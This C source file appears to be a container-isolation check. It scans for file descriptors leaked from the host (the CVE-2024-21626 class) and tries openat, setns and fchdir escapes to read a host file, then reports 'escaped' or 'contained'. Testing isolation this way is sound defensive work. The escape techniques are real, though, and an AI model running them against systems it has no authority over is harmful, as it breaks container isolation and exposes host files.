/*
 * fd_escape - looks for file descriptors inherited from the host (the
 * CVE-2024-21626 class) and uses each one to get out: openat(fd, PATH)
 * relative to a leaked directory, setns(fd) into a leaked namespace, and
 * fchdir(fd) then a relative open. PATH is a host file outside the
 * container, given without its leading '/' relative to a leaked "/".
 *
 * Prints every fd above 2 it finds ("fd N"), "escaped: HOW" for each way
 * out that worked, then "escaped" (exit 0) or "contained" (exit 1).
 *
 * Usage: fd_escape PATH
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int escaped;

static void try_read(int dirfd, const char *path, const char *how, int fd)
{
	char buf[64];
	int f = openat(dirfd, path, O_RDONLY | O_CLOEXEC);

	if (f < 0)
		return;
	if (read(f, buf, sizeof(buf)) > 0) {
		printf("escaped: %s fd %d\n", how, fd);
		escaped++;
	}
	close(f);
}

int main(int argc, char **argv)
{
	const char *path;

	if (argc != 2) {
		fprintf(stderr, "usage: fd_escape PATH\n");
		return 2;
	}
	path = argv[1] + strspn(argv[1], "/");
	for (int fd = 3; fd < 4096; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		printf("fd %d\n", fd);
		try_read(fd, path, "openat", fd);
		if (setns(fd, 0) == 0) {
			printf("escaped: setns fd %d\n", fd);
			escaped++;
		}
		if (fchdir(fd) == 0)
			try_read(AT_FDCWD, path, "fchdir", fd);
	}
	printf("%s\n", escaped ? "escaped" : "contained");
	return escaped ? 0 : 1;
}
